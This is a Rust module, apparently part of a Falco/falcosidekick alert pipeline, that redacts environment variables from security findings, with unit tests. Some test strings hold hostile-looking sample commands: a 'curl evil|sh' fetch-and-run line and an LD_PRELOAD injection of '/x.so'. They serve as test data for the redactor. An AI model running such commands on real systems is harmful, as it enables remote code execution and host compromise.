//! Environment variables are where secrets live, and no finding needs them: they are left out, under whatever name they
//! come and wherever a sentence repeats them.

use std::borrow::Cow;

/// What stands for the variables that were left out.
const LEFT_OUT: &str = "[left out]";

/// What follows the environment in the arguments of `execve`; the variables' own values may hold anything.
const AFTER: [&str; 5] = [" tty=", " vpgid=", " pgid=", " loginuid=", " cgroups="];

/// Fields that follow in the sentences of rules. A command that begins with `env=` must not hide them.
const FIELDS: [&str; 9] =
    [" container", " proc_", " k8s_", " k8s.", " image=", " user=", " user_", " parent=", " terminal="];

/// Whether a field holds environment variables: `proc.env`, `proc.aenv[2]`, `evt.arg[env]`, or with the underscores that
/// falcosidekick makes of dots and brackets.
pub(super) fn is_one(name: &str) -> bool {
    const NAMES: [&str; 5] = ["proc.env", "proc.aenv", "evt.arg.env", "evt.rawarg.env", "container.env"];
    NAMES.iter().any(|known| starts(name, known))
}

/// Whether a field holds all arguments of a system call in one text, `res=0 exe=/bin/sh env=A=1.B=2. tty=0`.
pub(super) fn is_arguments(name: &str) -> bool {
    ["evt.args", "evt.info", "evt.rawargs"].iter().any(|known| known.len() == name.len() && starts(name, known))
}

fn starts(name: &str, known: &str) -> bool {
    let same = |(byte, known): (u8, u8)| byte == known || (known == b'.' && matches!(byte, b'_' | b'['));
    name.len() >= known.len() && name.bytes().zip(known.bytes()).all(same)
}

/// The arguments of a system call without the environment.
pub(super) fn without(arguments: Cow<'_, str>) -> Cow<'_, str> {
    match arguments.split_once("env=") {
        Some((before, _)) if before.is_empty() || before.ends_with(' ') => {
            let at = before.len();
            Cow::Owned(cut(&arguments, at))
        }
        _ => within(arguments),
    }
}

/// A sentence without the environment that its rule prints: `args=res=0 env=A=1.B=2. tty=0`, `(env=A=1 B=2)`.
pub(super) fn within(sentence: Cow<'_, str>) -> Cow<'_, str> {
    let found = sentence.match_indices("env=").map(|(at, _)| at).find(|at| {
        // `--env=A=1` is an option, `--set env=prod` has one value.
        // In an address it is a parameter.
        let own_word = !sentence[..*at].ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '?' | '&'));
        own_word && starts_with_variable(&sentence[at + "env=".len()..])
    });
    match found {
        Some(at) => Cow::Owned(cut(&sentence, at)),
        None => sentence,
    }
}

/// `NAME=…`
fn starts_with_variable(text: &str) -> bool {
    let name = text.split('=').next().filter(|name| name.len() < text.len()).unwrap_or_default();
    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// The text without the environment that begins here.
fn cut(text: &str, at: usize) -> String {
    let (before, environment) = text.split_at(at);
    let after = AFTER.iter().filter_map(|name| environment.rfind(name)).min();
    let next = || FIELDS.iter().filter_map(|name| environment.find(name)).min();
    let rest = after.or_else(next).map_or("", |at| &environment[at..]);
    format!("{before}env={LEFT_OUT}{rest}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_are_known_by_every_spelling_of_their_names() {
        for name in [
            "proc.env",
            "proc.env[DBX]",
            "proc_env",
            "proc.aenv",
            "proc.aenv[2]",
            "proc.aenv_1_",
            "evt.arg.env",
            "evt.arg[env]",
            "evt_arg_env",
            "evt.rawarg.env",
            "evt.rawarg[env]",
            "container.env",
        ] {
            assert!(is_one(name), "{name}");
        }
        for name in ["env", "proc.name", "proc.exe", "container.id", "evt.arg.path", "environment"] {
            assert!(!is_one(name), "{name}");
        }
        assert!(is_arguments("evt.args") && is_arguments("evt.info") && is_arguments("evt_args"));
        assert!(!is_arguments("evt.args.x") && !is_arguments("evt.arg"));
    }

    #[test]
    fn sentences_keep_all_but_the_environment() {
        for (text, expected) in [
            (
                "exec (args=res=0 exe=sh env=DBX=a b.FOO=x tty=1. tty=0 pgid=1 user=root)",
                "exec (args=res=0 exe=sh env=[left out] tty=0 pgid=1 user=root)",
            ),
            ("preload (user=root env=LD_PRELOAD=/x.so DBX=hush)", "preload (user=root env=[left out]"),
            ("args=env=A=1.B=2.", "args=env=[left out]"),
            ("proc.env=A=1 B=2", "proc.env=[left out]"),
            (
                "Shell (command=sh -c env=A=1;curl evil|sh proc_exepath=/bin/sh image=nginx)",
                "Shell (command=sh -c env=[left out] proc_exepath=/bin/sh image=nginx)",
            ),
            ("curl http://x/?env=a=b&env=c=d y", "curl http://x/?env=a=b&env=c=d y"),
            ("command=docker run --env=A=1 nginx", "command=docker run --env=A=1 nginx"),
            ("helm --set env=prod --set x=y", "helm --set env=prod --set x=y"),
            ("the env= is empty, setenv=A=1", "the env= is empty, setenv=A=1"),
        ] {
            assert_eq!(within(text.into()), expected);
        }
        for (text, expected) in [
            ("res=0 env=hush. tty=0", "res=0 env=[left out] tty=0"),
            ("env=hush", "env=[left out]"),
            ("res=0 name=x", "res=0 name=x"),
            ("argv=penv= env=A=hush", "argv=penv= env=[left out]"),
        ] {
            assert_eq!(without(text.into()), expected);
        }
    }
}
